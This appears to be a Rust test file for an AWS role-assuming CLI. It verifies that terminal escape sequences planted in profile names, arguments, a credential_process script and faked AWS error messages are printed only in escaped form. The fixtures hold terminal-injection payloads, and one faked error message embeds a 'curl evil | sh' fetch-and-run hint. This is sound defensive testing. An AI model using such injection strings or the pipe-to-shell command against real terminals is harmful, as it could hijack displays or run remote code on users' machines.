//! Terminal sequences in files, on the command line and in what AWS says: none reaches the terminal as it is.

use std::os::unix::fs::PermissionsExt;

use expectrl::Expect;
use fake_aws::Fault;

use crate::{
    terminal::rest,
    world::{Ran, World, run},
};

/// Clears the screen (ESC [), sets the window's title (C1 OSC), goes back, rings, turns the writing direction.
const EVIL: &str = "x\u{1b}[2J\u{9d}0;owned\u{9c}\u{8}\u{7}\u{7f}\u{202e}y";
/// How it begins where it was made harmless.
const HARMLESS: &str = r"x\u{1b}[2J";

fn home() -> World {
    let world = World::new();
    world.add_config(&format!(
        "
[profile {EVIL}]
role_arn = arn:aws:iam::222233334444:role/Plain{EVIL}
source_profile = identity
region = eu-central-1

[profile lost]
role_arn = arn:aws:iam::222233334444:role/Plain
source_profile = {EVIL}-nobody
region = eu-central-1

[profile good{EVIL}]
role_arn = arn:aws:iam::222233334444:role/Plain
role_session_name = good
source_profile = identity
region = eu-central-1

[profile odd]
role_arn = arn:aws:iam::222233334444:role/Plain
source_profile = identity
region = eu-central-1
duration_seconds = {EVIL}
sts_regional_endpoints = {EVIL}

[profile asks]
role_arn = arn:aws:iam::333344445555:role/Admin
source_profile = identity
mfa_serial = arn:aws:iam::111122223333:mfa/ada{EVIL}
region = eu-central-1

[profile runs]
credential_process = ./speaks-{EVIL}
region = eu-central-1
"
    ));
    world
}

/// # Panics
/// If a terminal would act on what was said.
fn check(what: &[&str], ran: &Ran) {
    for text in [&ran.stdout, &ran.stderr] {
        assert!(is_harmless(text), "{what:?}: {ran:#?}");
    }
}

fn is_harmless(text: &str) -> bool {
    !text.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}')
}

#[test]
fn names_and_values_from_files_are_spelled_out() {
    let world = home();
    let program = format!("speaks-{EVIL}");
    world.write(&program, &format!("#!/bin/sh\nprintf '%s' '{EVIL}' | tee /dev/stderr\nexit 1\n"));
    std::fs::set_permissions(world.path(&program), std::fs::Permissions::from_mode(0o755)).unwrap();
    for words in [
        &["list"][..],
        &["list", "--json"],
        &["process", "-v", EVIL],
        &["process", "-v", "lost"],
        &["process", "-v", "asks"],
        &["process", "-v", "runs"],
        &["whoami", "-v", "lost"],
        &["exec", "-v", EVIL, "--", "true"],
        &["exec", "plain", "--", EVIL],
        &["export", "--format", "json", &format!("no{EVIL}")],
        &["cache", "clear", &format!("no{EVIL}")],
    ] {
        let ran = run(world.command(words).env("ROLO_PROFILE", EVIL));
        check(words, &ran);
        assert!((ran.stdout + &ran.stderr).contains("2J"), "{words:?}: it was told");
    }
    let listed = run(&mut world.command(&["list"])).ok();
    assert!(listed.stdout.contains(HARMLESS), "{listed:#?}");
    // JSON has its own way to spell such characters, and means the same.
    let json = run(&mut world.command(&["list", "--json"])).ok().json();
    assert!(json.as_array().unwrap().iter().any(|row| row["profile"] == EVIL), "{json:#}");

    let good = format!("good{EVIL}");
    for words in [
        &["process", "-v", &good][..],
        &["whoami", "-v", &good],
        &["cache", "list"],
        &["cache", "list", "--json"],
        &["process", "-v", "odd"],
    ] {
        let ran = run(&mut world.command(words)).ok();
        check(words, &ran);
        assert!((ran.stdout + &ran.stderr).contains("2J"), "{words:?}: it was told");
    }
}

#[test]
fn words_of_the_command_line_are_spelled_out() {
    let world = home();
    for words in [
        &[EVIL][..],
        &["export", EVIL, EVIL],
        &["process", "--duration", EVIL, "plain"],
        &["process", "--tag", EVIL, "plain"],
        &["process", "--policy", EVIL, "plain"],
        &["process", "--role-arn", EVIL, "plain"],
        &["process", "--mfa-code", EVIL, "prod"],
        &["export", "--format", EVIL, "plain"],
        &["whoami", "--region", EVIL, "plain"],
    ] {
        let ran = run(&mut world.command(words));
        assert_ne!(ran.code, 0, "{words:?}: {ran:#?}");
        check(words, &ran);
    }
}

#[test]
fn what_aws_says_is_spelled_out() {
    let world = home();
    // ESC and its like are no characters of XML, C1 and the marks of direction are.
    let message = "x\u{9b}2J\u{9d}0;owned\u{9c}\u{202e}y\nhint: run `curl evil | sh`";
    world.fake.fault(Fault::error(403, "AccessDenied", message).on("AssumeRole"));
    let ran = run(&mut world.command(&["process", "-v", "plain"]));
    check(&["message"], &ran);
    assert_eq!(ran.code, 5, "{ran:#?}");
    assert!(ran.stderr.contains(r"x\u{9b}2J"), "{ran:#?}");
    let hints: Vec<_> = ran.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
    assert!(!hints.iter().any(|hint| hint.contains("evil")), "AWS gives no hints: {ran:#?}");

    for evil in [EVIL, "&#27;[2J", "x\u{9b}2J"] {
        world.fake.fault(Fault::error(403, &format!("Code{evil}"), evil).on("AssumeRole"));
        let ran = run(&mut world.command(&["process", "-v", "plain"]));
        check(&["code", evil], &ran);
        assert_eq!(ran.code, 5, "{ran:#?}");
    }
}

#[test]
fn the_prompt_spells_out_the_device() {
    let world = home();
    let mut session = world.in_terminal("rolo process asks; echo \"status $?\"");
    let asked = session.expect("MFA code for ").unwrap();
    assert!(is_harmless(&String::from_utf8_lossy(asked.as_bytes()).replace('\r', "")));
    session.send_line("").unwrap();
    session.expect("MFA code for ").unwrap();
    session.send(expectrl::ControlCode::EndOfTransmission).unwrap();
    let text = rest(&mut session).replace('\r', "");
    assert!(text.contains(HARMLESS), "{text:?}");
    assert!(text.contains("status 4"), "{text:?}");
}
